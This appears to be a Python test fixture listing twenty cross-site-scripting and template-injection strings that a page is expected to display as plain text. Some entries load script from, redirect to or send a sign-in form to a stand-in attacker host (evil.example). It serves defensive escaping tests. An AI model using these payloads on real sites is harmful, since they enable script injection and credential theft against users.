"""What somebody may say, type or be called who wants a page to run something. All of it is to be shown as text."""

PAYLOADS = (
    "<script>alert(1)</script>",
    "</p></li></ul><script src=//evil.example></script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' autofocus onfocus='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "{{ 7 * 7 }}{% raw %}",
    "${7*7}<%= 7*7 %>",
    "<!--<script>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<div hx-get='/messages' hx-trigger='load'>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<form action=//evil.example><button>Sign in",
    "\u202e<script>alert(1)</script>",
    "<ScRiPt\x0b>alert(1)</sCrIpT>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
)
